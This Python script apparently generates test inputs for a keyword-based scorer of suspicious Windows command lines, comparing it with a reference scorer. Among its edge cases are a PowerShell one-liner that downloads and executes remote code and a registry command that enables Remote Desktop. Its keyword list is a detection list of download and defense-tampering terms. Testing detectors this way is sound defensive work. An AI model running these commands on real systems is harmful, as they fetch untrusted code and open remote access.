#!/usr/bin/env python3
"""Writes parity_input.jsonl: command lines (one JSON string per line) that
exercise the ESCU scorer: the reference test lines, edge cases of the
tokenizer, and deterministic random mixes of the 36 keywords with counts that
make float rounding matter. Then run gen_parity.sh to score them with the
reference scorer. Standard library only."""
import json, random

EDGE = [
    "", " ", "`", "new-object", "New-Object", "NEW-OBJECT new-object nEw-ObJeCt",
    "New-Ob`ject Sys`tem.Net.Web`Client", "``new``-``object``",
    "set-mppreference Set-MpPreference set -value --value -Value -name --name",
    "http https HTTP://x.com https://y.com/a.http", "system32 system system.io io.system",
    "cafémutex mutexé ทmutexท İf ıf K\u212aelvin", "net\x00netsh\x00http", "net\tnetsh\nhttp\r\nif",
    "webclient2 my_webclient _webclient webclient_ -webclient webclient-",
    "for /f %i in (x) do if exist %i set x=1", "[System.Text.Encoding]::UTF8.GetString($b)",
    "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://a.b/c')\"",
    "cmd.exe /c reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f",
    "count count count count count count count", "server " * 9, "function catch threading mutex cryptography computehash",
    "\u00a0new-object\u2003webclient\u3000", "a" * 300, "new-object " * 100,
]

KW = ["for", "netsh", "readbytes", "set", "unrestricted", "winstations", "-value", "compression", "server",
      "set-mppreference", "terminal", "-name", "catch", "get-wmiobject", "hklm", "streamreader", "system32",
      "username", "webrequest", "count", "webclient", "writeallbytes", "convert", "create", "function", "net",
      "com", "http", "io", "system", "new-object", "if", "threading", "mutex", "cryptography", "computehash"]
FILL = ["-nop", "hidden", "c:\\windows\\temp", "x.exe", "'abc'", "$a=1;", "|", "&&", "(", ")", "\"", "=", "::",
        "https", "netsh2", "ifx", "Sys`tem", "Net.WebClient", "IO.File", "ท", "é", "/f", "-Value", "HKLM:\\Soft"]

def cases():
    with open("../../../../shared/reference/escu/test_cmdlines.txt", encoding="utf-8") as f:
        for line in f.read().split("\n"):
            if line:
                yield line
    yield from EDGE
    rnd = random.Random(20261122)
    for _ in range(400):
        words = []
        for _ in range(rnd.randint(1, 60)):
            if rnd.random() < 0.4:
                w = rnd.choice(KW)
                words.append(rnd.choice([w, w.upper(), w.capitalize(), w[:1] + "`" + w[1:]]))
            else:
                words.append(rnd.choice(FILL))
        yield rnd.choice([" ", ".", ";", " | "]).join(words)

with open("parity_input.jsonl", "w", encoding="utf-8") as out:
    for c in cases():
        out.write(json.dumps(c) + "\n")
